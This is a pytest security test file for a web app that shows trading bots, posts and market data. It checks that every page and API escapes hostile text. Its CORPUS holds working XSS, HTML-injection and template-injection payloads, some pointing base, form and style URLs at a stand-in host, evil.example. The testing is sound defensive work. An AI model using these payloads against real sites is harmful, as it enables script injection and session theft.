"""Hostile text in every column and field that any page shows: it stays text. Checked by a parser,
payload by payload, and by running it in Chromium.
"""

import itertools
from html.parser import HTMLParser

import orjson
import pytest
import story
from node import FakeNode, connect
from service import NOW, address, signature
from test_browser import CHROMIUM, Site
from test_legacy import closed, said
from test_studio import Browser

import jobs
from accounts import traders
from accounts.fields import has_control
from chain.stored.derived import NOT_POLLED
from chain.symbols import clean_text
from market.tables import Token
from models import Bot, Job, Key, Post, Wallet
from observer import Observer
from paper.tables import PaperPost, Period, Review, Trader
from storage import store_arrival

# A page with such an element treated untrusted text as its own.
MARK = "<x-pwned>"
CORPUS = {
    "script": f"{MARK}<script>pwned(1)</script>",
    "image": f"{MARK}<img src=x onerror=pwned(2)>",
    "svg": f"{MARK}<svg onload=pwned(3)><animate onbegin=pwned(3)>",
    "a double-quoted attribute": f'" autofocus onfocus=pwned(4) x="{MARK}',
    "a quoted attribute": f"' autofocus onfocus=pwned(5) x='{MARK}",
    "an unquoted attribute": f"x onmouseover=pwned(6) {MARK}",
    "the end of a textarea": f"</textarea>{MARK}<script>pwned(7)</script>",
    "the end of a title": f"</title>{MARK}<script>pwned(8)</script>",
    "the end of a script": f"</script>{MARK}<script>pwned(9)</script>",
    "a comment": f"<!-->{MARK}<script>pwned(10)</script>-->",
    "cdata": f"]]>{MARK}<![CDATA[",
    "an address": "javascript:pwned(11)//",
    "a data address": f"data:text/html,{MARK}<script>pwned(12)</script>",
    "a style": f"</style>{MARK}<style>*{{background:url(//evil.example)}}",
    "a base": (
        f"{MARK}<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>"
    ),
    "a form": f"{MARK}<form action=//evil.example><button formaction=javascript:pwned(13)>",
    "entities": "&lt;x-pwned&gt;&#60;x-pwned&#62;",
    "jinja": f"{{{{ 1000003*1000033 }}}}{{% raw %}}{{{{ config }}}}{MARK}",
    "other templates": (
        f"${{1000003*1000033}} #{{1000003*1000033}} <%= 1000003*1000033 %>"
        f" %(pwned)s {{0.__class__}} {{name}}{MARK}"
    ),
    "bidi": f"\u202etxt.{MARK}\u2066\u2069\u200f",
    "zero width": f"a\u200bb\u200c\u2060c\ufeff\U000e0041{MARK}",
    "line separators": f"one\u2028pwned(14)\u2029{MARK}\x85",
    "four bytes": f"\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467\U0010fffd{MARK}",
    "nul and controls": f"\x00\x07\x1b[31m\x7f{MARK}",
    "no characters": f"\ufffe\uffff\ufdd0{MARK}",
    "marks": f"Z{chr(0x300 + 26) * 60}algo{MARK}",
    "long": "w" * 3000 + MARK,
}
MINT = address("mint")
OPEN_ALL = "document.querySelectorAll('details').forEach(one => { one.open = true })"


def dump(value):
    return orjson.dumps(value).decode()


def fill(service, text):
    """An instance whose every free text is `text`, bypassing all checks, and its pages: {path:
    whether `text` is on it}; `browser` owns everything.
    """
    browser = Browser(service)
    _, uid, _, _ = browser.create("Nell", wallet=address("w"))
    browser.send("/connect/keys", label="reading")
    tone = {"tone": text, "style": [text], "adjectives": [text], "topics": [text], "emoji": text}
    voice = dump({**tone, "catchphrases": [text]})
    Bot.update(name=text, bio=text, voice=voice, avatar_url=text).execute()
    Key.update(name=text, last4=text[:4]).execute()
    fill_wallet(service, text)
    fill_posts(text)
    fill_market(text)
    trader = fill_trader(text, voice)
    for job in ("observer", "scout", "paper"):
        jobs.note_job(job, "failing", NOW, text, '{"safety": {"state": "failing"}}')
    assert Job.select().count() == 3
    shown = f"""
        / /bots/{uid} /posts/post_1 /embed/post_1 /posts/post_paper /tokens/{MINT} /market
        /leaderboard /traders /traders/{trader.uid} /status /bots/{uid}/manage /connect
        /?source=paper
    """
    fixed = ("/strategies", "/docs", "/create")
    return browser, {**dict.fromkeys(shown.split(), True), **dict.fromkeys(fixed, False)}


def fill_wallet(service, text):
    lots = '[["trade_t","5",4],[null,"5",null]]'
    sold = {"kind": "sell", "mint": MINT, "raw": -5, "realized": "matched", "lots": lots}
    money = {"result": 1, "proceeds": 5, "cost": 4}
    service.observe_trade(address("w"), "t", 10, **sold, **money, flags=dump([text]), venue=text)
    service.observe_results(address("w"), 5, realizedSol="0.000000005", volumeSol="0.0000001")
    gap = {"fromSlot": 1, "toSlot": 2, "reason": text}
    coverage = {**NOT_POLLED, "state": "partial", "firstSlot": 1, "lastSlot": 9, "receipts": 1}
    coverage |= {"note": text, "gaps": [gap]}
    position = {"mint": MINT, "amountRaw": "5", "decimals": 0, "costLamports": "4"}
    positions = dump([{**position, "unknownBasisRaw": "0"}])
    Wallet.update(coverage=dump(coverage), positions=positions).execute()


def fill_posts(text):
    said = {"event_id": text, "body": text, "symbol": text, "reason": text, "status_reason": text}
    said |= {"uid": "post_1", "source": "bot", "channel": "api", "status": "mismatch"}
    trade = {"mint": MINT, "signature": signature("t"), "wallet": Wallet.get(), "bot": Bot.get()}
    post = Post.create(**said, **trade, event_at=NOW, created_at=NOW)
    store_arrival("post", post=post)


def fill_market(text):
    Token.update(symbol=text, name=text).execute()
    Token.delete().where(Token.mint == MINT).execute()
    checks = [{"key": "supply", "label": text, "status": "warn", "detail": text, "checkedAt": None}]
    named = {"mint": MINT, "symbol": text, "name": text, "pair_url": text, "absurd": text}
    source = {"found_by": "dexscreener", "source": "dexscreener", "checks": dump(checks)}
    times = {"discovered_at": NOW, "tracked_at": NOW, "quoted_at": NOW}
    Token.insert(**named, **source, **times).execute()


def fill_trader(text, voice):
    trader = traders.create_trader("Penny", "momentum", NOW).trader
    Trader.update(name=text, bio=text, voice=voice).execute()
    token = {"symbol": text, "mint": MINT}
    closed(trader, 1, 5, **token, reason=text, marks=dump([text]), pipeline=text)
    closed(trader, 2, 5, **token, closed_at=None, reason=None, raw="5")
    said(trader, "paper", text, {"what": "not_filled", "symbol": text, "why": text})
    PaperPost.update(**token).execute()
    reason = {"key": "k", "code": "code", "detail": text, "symbol": text, "at": NOW}
    review = {"state": "under_review", "reasons": dump([reason]), "decision": text}
    Review.create(period=Period.get(), opened_at=NOW, **review)
    return trader


LINKS = ("href", "src", "action", "formaction", "data-samples")


class Reading(HTMLParser):
    """A page's text, and the elements that none of our templates write."""

    def __init__(self, page):
        super().__init__()
        self.intruders, self.text = [], ""
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        given = dict(attributes)
        self.text += given.get("value") or ""
        links = [(given.get(name) or "").strip().lower() for name in LINKS]
        if (
            tag in ("x-pwned", "img", "iframe", "base", "object", "embed")
            or any(name.startswith("on") for name in given)
            or any(link.startswith(("javascript:", "data:", "//")) for link in links)
            or (tag == "script" and not given.get("src", "").startswith("/static/"))
            or (tag == "meta" and "http-equiv" in given)
        ):
            self.intruders.append((tag, given))

    def handle_data(self, text):
        self.text += text


FILES = "/feed.json /api/traders /api/feed /api/market /api/health /openapi.json".split()


@pytest.mark.parametrize("first", range(0, len(CORPUS), 9))
def test_every_page_escapes_it(service, first):
    """Nine payloads at a time; each text begins with a different one."""
    browser, paths = fill(service, "\n".join(list(CORPUS.values())[first : first + 9]))
    for path, holds_it in paths.items():
        page = browser.get(path)
        reading = Reading(page.text)
        assert (page.status_code, reading.intruders) == (200, []), path
        # 1000003 * 1000033, as computed by a template
        assert "1000036000099" not in page.text and "SECRET_KEY" not in page.text, path
        assert ("x-pwned" in reading.text) >= holds_it, path
    for path in FILES:
        answer = browser.get(path)
        assert answer.status_code == 200 and answer.json, path
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
        assert answer.mimetype.endswith("json"), path


def test_injected_code_would_be_detected():
    elements = [MARK, "<p onclick=x>", "<script>x</script>", "<img src=x>"]
    elements += ["<script src=//evil.example></script>", '<a href=" JavaScript:x">']
    for page in [*elements, "<meta http-equiv=refresh>", "<form action=//evil.example>"]:
        assert Reading(page).intruders, page


def test_hostile_input_is_refused_or_escaped(service, key):
    """Through the API, in every field; removed characters are reported."""
    longest = {"eventId": 128, "body": 4000, "symbol": 32, "reason": 4000}
    for name, field in itertools.product(CORPUS, longest):
        text = CORPUS[name][-longest[field] :]
        said = {"eventId": f"{field} {name}", "body": "words", field: text}
        answer = service.post(said, key)
        if has_control(text):
            assert (answer.status_code, answer.json["errors"][0]["field"]) == (422, field), name
            continue
        kept = clean_text(text).strip()
        assert (answer.status_code, answer.json[field]) == (201, kept), name
        assert answer.json["sanitized"] == (kept != text), name
        assert answer.headers["Content-Type"] == "application/json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    lone = service.post(b'{"eventId": "e", "body": "words\\ud800"}', key)
    assert (lone.status_code, lone.json["code"]) == (400, "invalid_json")


def test_a_memo_is_shown_nowhere(service):
    """A stranger's text in a transaction with a wallet: in the instruction, the log, and the node's
    list.
    """
    told, text = story.Story(), "\n".join(CORPUS.values())
    told.fund("nell", 10**10)
    sale = told.buy("nell", "CAT", 5_000_000, 10**9)
    receipt, cat = told.rows[-1].receipt, story.address("CAT")
    memo = {"programId": "MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr", "program": "spl-memo"}
    memo |= {"parsed": text, "stackHeight": None}
    receipt["transaction"]["message"]["instructions"].append(memo)
    receipt["meta"]["logMessages"] = [f"Program log: Memo (len {len(text)}): {text}"]
    made = service.make_bot("Nell", story.address("nell"))
    uid, key = made.bot.uid, made.publish_key.text
    observer = Observer(service.config, connect(FakeNode(told.chain())))
    for turn in range(6):
        observer.run_tick(NOW + turn * 120_000)
    service.post({"eventId": "e", "body": "b", "signature": sale}, key)
    (trade,) = service.get(f"/api/v1/trades?mint={cat}", key).json["data"]
    assert (trade["signature"], trade["kind"]) == (sale, "buy")
    pages = ("/", f"/bots/{uid}", f"/tokens/{cat}")
    for path in (*pages, "/api/v1/trades", "/api/v1/feed", f"/api/v1/bots/{uid}"):
        answer = service.get(path, key)
        assert answer.status_code == 200 and "pwned" not in answer.text


@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM.exists(), reason="no Chromium: apt-get install chromium")
def test_chromium_executes_none_of_it(tmp_path):
    """Every page with such text, including forms: nothing runs or tries to, and nothing is
    requested from another host.
    """
    from playwright.sync_api import sync_playwright

    with Site(tmp_path / "data") as site, sync_playwright() as driver:
        browser, paths = fill(site, " ".join(CORPUS.values()))
        flags = ["--no-sandbox", "--disable-gpu"]
        chromium = driver.chromium.launch(executable_path=str(CHROMIUM), args=flags)
        context = chromium.new_context(base_url=site.url)
        session = browser.client.get_cookie("session").value
        context.add_cookies([{"name": "session", "value": session, "url": site.url}])
        page, wrong = context.new_page(), []

        def note_request(request):
            if not request.url.startswith((site.url, "data:image/")):
                wrong.append(request.url)

        # Without a listener, Playwright dismisses dialogs.
        page.expose_function("pwned", lambda *seen: wrong.append(("ran", seen)))
        page.on("console", lambda seen: seen.type == "error" and wrong.append(seen.text))
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on("request", note_request)
        handlers = "[onclick], [onerror], [onfocus], [onmouseover], [onload]"
        for path, holds_it in paths.items():
            assert page.goto(path).status == 200
            page.evaluate(OPEN_ALL)
            page.mouse.move(200, 300)
            assert page.locator(f"x-pwned, img, iframe, {handlers}").count() == 0, path
            assert not holds_it or "x-pwned" in page.content(), path
        page.goto("/connect")
        page.evaluate(OPEN_ALL)
        # Shown again while typing.
        for label in ("Name", "Bio", "Tone", "Catchphrases"):
            page.get_by_label(label, exact=True).fill(CORPUS["image"][:60])
        page.wait_for_timeout(600)
        assert page.locator("x-pwned, img").count() == 0 and not wrong
        # It would have been detected.
        page.set_content("<script>pwned(0)</script>")
        page.wait_for_timeout(100)
        assert wrong
        context.close()
        chromium.close()
